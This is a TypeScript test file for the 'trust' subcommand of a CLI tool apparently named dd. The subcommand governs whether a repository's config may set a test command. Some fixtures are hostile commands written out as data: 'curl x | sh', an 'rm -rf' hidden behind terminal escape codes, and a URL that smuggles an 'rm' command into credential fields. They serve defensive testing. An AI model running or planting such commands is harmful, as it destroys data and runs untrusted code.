import { describe, expect } from "bun:test"
import { mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { Cause, ConfigProvider, Effect, Exit, Layer, Logger, Stdio } from "effect"
import { Command } from "effect/cli"
import { TestConsole } from "effect/testing"
import { configCommand } from "../../../src/cli/run/config.ts"
import { trustCommand } from "../../../src/cli/run/trust.ts"
import * as Platform from "../../../src/layers/system/Platform.ts"
import { it } from "../../support/effect.ts"
import { makeDirectory, tryGit } from "../../support/repository.ts"

/** A repository with these files in its one commit, and dd's own directory. */
const world = (files: Readonly<Record<string, string>>) =>
  Effect.gen(function* () {
    const root = yield* makeDirectory
    const [home, repository] = [join(root, "home"), join(root, "repository")]
    mkdirSync(repository)
    tryGit(repository, ["init", "-q", "-b", "main"])
    const commit = (edited: Readonly<Record<string, string>>) => {
      for (const [name, text] of Object.entries(edited)) writeFileSync(join(repository, name), text)
      tryGit(repository, ["add", "-A"])
      expect(tryGit(repository, ["commit", "-qm", "x"]).status).toBe(0)
    }
    commit(files)
    commit({ "other.txt": `${Object.keys(files)}` })
    return { home, repository, commit }
  })

const dd = Command.make("dd").pipe(Command.withSubcommands([configCommand, trustCommand]))

const called = (home: string, ...args: ReadonlyArray<string>) =>
  Effect.gen(function* () {
    const before = (yield* TestConsole.logLines).length
    const warnings: Array<string> = []
    const logger = Logger.make(({ message }) => {
      warnings.push(String(message))
    })
    const run = Command.runWith(dd, { version: "0", renderErrors: false })(args)
    const exit = yield* Effect.exit(run).pipe(
      Effect.provide(Layer.mergeAll(Platform.layer, Stdio.layerTest({}), Logger.layer([logger]))),
      Effect.provideService(
        ConfigProvider.ConfigProvider,
        ConfigProvider.fromEnv({ env: { DD_HOME: home, PATH: process.env.PATH ?? "" } })
      )
    )
    const out = (yield* TestConsole.logLines).slice(before).join("\n")
    const error = Exit.isFailure(exit) ? Cause.squash(exit.cause) : null
    return { out, warnings, error: error instanceof Error ? error.message : null }
  })

const shownCommand = Effect.fnUntraced(function* (home: string, repository: string) {
  const { out, warnings } = yield* called(home, "config", "show", "--origin", repository)
  return { line: /^test_command .*$/m.exec(out)?.[0].replace(/ +/g, " ") ?? "", warnings }
})

describe("dd trust", () => {
  it.effect("lets a repository name the test command, until the file is edited", () =>
    Effect.gen(function* () {
      const { commit, home, repository } = yield* world({ ".daydream.toml": 'test_command = "make check"\n' })
      const untrusted = yield* shownCommand(home, repository)
      expect(untrusted.line).toBe("test_command - default")
      expect(untrusted.warnings.join()).toContain("unless you trust this file with dd trust")

      const { out } = yield* called(home, "trust", repository)
      expect(out).toBe(
        `Trusted, until the file is edited: ${repository}\n  .daydream.toml:1: test_command = make check`
      )
      expect(statSync(join(home, "trusted.json")).mode & 0o777).toBe(0o600)
      expect(yield* shownCommand(home, repository)).toEqual({
        line: "test_command make check .daydream.toml:1 (base)",
        warnings: []
      })

      commit({ ".daydream.toml": 'test_command = "curl x | sh"\n' })
      commit({ "other.txt": "more" })
      expect((yield* shownCommand(home, repository)).line).toBe("test_command - default")
    })
  )

  it.effect("trusts nothing else: no settings of models, no looser sandbox", () =>
    Effect.gen(function* () {
      const files = { ".daydream.toml": 'test_command = "x"\ntest_sandbox = "off"\nbackend = "claude"\n' }
      const { home, repository } = yield* world(files)
      yield* called(home, "trust", repository)
      const { warnings } = yield* shownCommand(home, repository)
      expect(warnings.join("\n")).toContain('a repository may only tighten test_sandbox; "off" is ignored')
      expect(warnings.join("\n")).toContain("a repository may not set backend")
    })
  )

  it.effect("shows all of the command: what a terminal or the redaction would hide, too", () =>
    Effect.gen(function* () {
      const hiding = yield* world({ ".daydream.toml": 'test_command = "true \\u001b]0; rm -rf x; : \\u0007\\nmake"\n' })
      const { out } = yield* called(hiding.home, "trust", hiding.repository)
      expect(out).toContain("test_command = true \\x1b]0; rm -rf x; : \\x07\\x0amake")

      const redacted = yield* world({
        ".daydream.toml": 'test_command = "curl https://user:pa;rm${IFS}x;@host.example/"\n'
      })
      const refused = yield* called(redacted.home, "trust", redacted.repository)
      expect(refused.error).toContain(".daydream.toml:1: a part of test_command looks like a credential")
      expect((yield* called(redacted.home, "trust", "--list")).out).toBe("no repository is trusted")
    })
  )

  it.effect("trusts a file in one repository only, lists it and forgets it", () =>
    Effect.gen(function* () {
      const file = { "pyproject.toml": '[tool.daydream]\ntest_command = "tox -e py"\n' }
      const one = yield* world(file)
      const other = yield* world(file)
      expect((yield* called(one.home, "trust", "--list")).out).toBe("no repository is trusted")
      yield* called(one.home, "trust", one.repository)
      expect((yield* shownCommand(one.home, other.repository)).line).toBe("test_command - default")
      expect((yield* called(one.home, "trust", "--list")).out).toBe(`${one.repository}  pyproject.toml`)
      expect((yield* called(one.home, "trust", "--remove", one.repository)).out).toContain("No longer trusted")
      expect((yield* shownCommand(one.home, one.repository)).line).toBe("test_command - default")
      const again = yield* called(one.home, "trust", "--remove", one.repository)
      expect(again.error).toContain("is not trusted")
    })
  )

  it.effect("refuses a repository that names no command, and a damaged list", () =>
    Effect.gen(function* () {
      const { home, repository } = yield* world({ "pyproject.toml": "[project]\n" })
      const none = yield* called(home, "trust", repository)
      expect(none.error).toContain("neither .daydream.toml nor pyproject.toml sets test_command")
      mkdirSync(home)
      writeFileSync(join(home, "trusted.json"), "{")
      expect((yield* called(home, "trust", "--list")).error).toContain("is damaged")
      expect((yield* shownCommand(home, repository)).warnings.join()).toContain("nothing is trusted")
      expect(readFileSync(join(home, "trusted.json"), "utf8")).toBe("{")
    })
  )
})
